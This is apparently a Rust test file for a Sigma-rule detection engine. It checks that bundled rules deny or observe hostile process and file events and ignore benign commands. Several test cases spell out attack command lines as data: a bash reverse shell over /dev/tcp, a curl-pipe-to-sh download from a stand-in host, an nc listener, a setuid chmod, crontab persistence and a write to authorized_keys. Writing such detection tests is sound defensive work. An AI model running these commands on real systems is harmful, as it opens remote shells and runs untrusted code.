//! The rules shipped in `rules/sigma` all load, fire on what they describe, and stay quiet
//! on ordinary activity.

use ringfence_sigma::{Action, Config, EventFields, ExecView, OpenView, Scratch};
use std::path::Path;

fn content() -> Vec<u8> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/sigma");
    ringfence_protocol::content::read_content(&dir).expect("rules/sigma reads")
}

fn exec<'a>(exe: &'a str, argv: &'a [String], parent: &'a str) -> EventFields<'a> {
    EventFields::from_exec(ExecView {
        pid: 10,
        ppid: 9,
        uid: 0,
        exe,
        argv,
        cwd: "/root",
        parent_exe: parent,
        user: "root",
        parent_argv: None,
    })
}

fn argv(line: &str) -> Vec<String> {
    line.split(' ').map(str::to_owned).collect()
}

#[test]
fn curated_rules_load_without_warnings() {
    let loaded = ringfence_sigma::load(&content(), &Config::default()).expect("utf-8");
    assert!(loaded.skipped.is_empty(), "{:?}", loaded.skipped);
    assert!(loaded.rules.rules().len() >= 10);
    assert!(loaded.rules.rules().iter().filter(|r| r.blocking).count() >= 1);
}

/// (exe, command line, parent exe, expected (rule id, action)).
type Case = (
    &'static str,
    &'static str,
    &'static str,
    Option<(&'static str, Action)>,
);

#[test]
fn curated_rules_fire_on_what_they_describe() {
    let loaded = ringfence_sigma::load(&content(), &Config::default()).expect("utf-8");
    let mut scratch = Scratch::default();
    let cases: &[Case] = &[
        (
            "/usr/bin/bash",
            "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "/usr/bin/python3",
            Some(("6c1f0a52-7d0e-4a8b-9f0c-2b1e5a0d7e01", Action::Deny)),
        ),
        (
            "/usr/bin/bash",
            "bash -c curl -fsSL http://x.example/i.sh | sh",
            "/usr/sbin/sshd",
            Some(("6c1f0a52-7d0e-4a8b-9f0c-2b1e5a0d7e02", Action::Deny)),
        ),
        (
            "/usr/bin/chmod",
            "chmod u+s /tmp/x",
            "/usr/bin/bash",
            Some(("6c1f0a52-7d0e-4a8b-9f0c-2b1e5a0d7e06", Action::Observe)),
        ),
        (
            "/usr/bin/nc",
            "nc -lvnp 4444",
            "/usr/bin/bash",
            Some(("6c1f0a52-7d0e-4a8b-9f0c-2b1e5a0d7e09", Action::Observe)),
        ),
        (
            "/tmp/.x/miner",
            "miner --donate 0",
            "/usr/bin/bash",
            Some(("6c1f0a52-7d0e-4a8b-9f0c-2b1e5a0d7e05", Action::Observe)),
        ),
        (
            "/usr/bin/crontab",
            "crontab /tmp/evil",
            "/usr/bin/bash",
            Some(("6c1f0a52-7d0e-4a8b-9f0c-2b1e5a0d7e07", Action::Observe)),
        ),
        ("/usr/bin/crontab", "crontab -l", "/usr/bin/bash", None),
        ("/usr/bin/ls", "ls -la", "/usr/bin/bash", None),
        ("/usr/bin/git", "git status", "/usr/bin/bash", None),
    ];
    for (exe, line, parent, want) in cases {
        let argv = argv(line);
        let got = loaded
            .rules
            .evaluate(&exec(exe, &argv, parent), &mut scratch)
            .map(|o| (o.rule.id.as_str(), o.action));
        assert_eq!(got, *want, "{line}");
    }
}

#[test]
fn open_rules_see_opens() {
    let loaded = ringfence_sigma::load(&content(), &Config::default()).expect("utf-8");
    let mut scratch = Scratch::default();
    let open = |exe: &'static str, write: bool| {
        EventFields::from_open(OpenView {
            pid: 1,
            uid: 1000,
            path: "/home/alice/.ssh/authorized_keys",
            exe,
            write,
        })
    };
    let hit = loaded
        .rules
        .evaluate(&open("/usr/bin/tee", true), &mut scratch)
        .expect("write is a file_event");
    assert_eq!(
        (hit.rule.id.as_str(), hit.action),
        ("6c1f0a52-7d0e-4a8b-9f0c-2b1e5a0d7e0b", Action::Observe)
    );
    assert!(
        loaded
            .rules
            .evaluate(&open("/usr/bin/tee", false), &mut scratch)
            .is_none()
    );
    assert!(
        loaded
            .rules
            .evaluate(&open("/usr/sbin/sshd", true), &mut scratch)
            .is_none()
    );
}
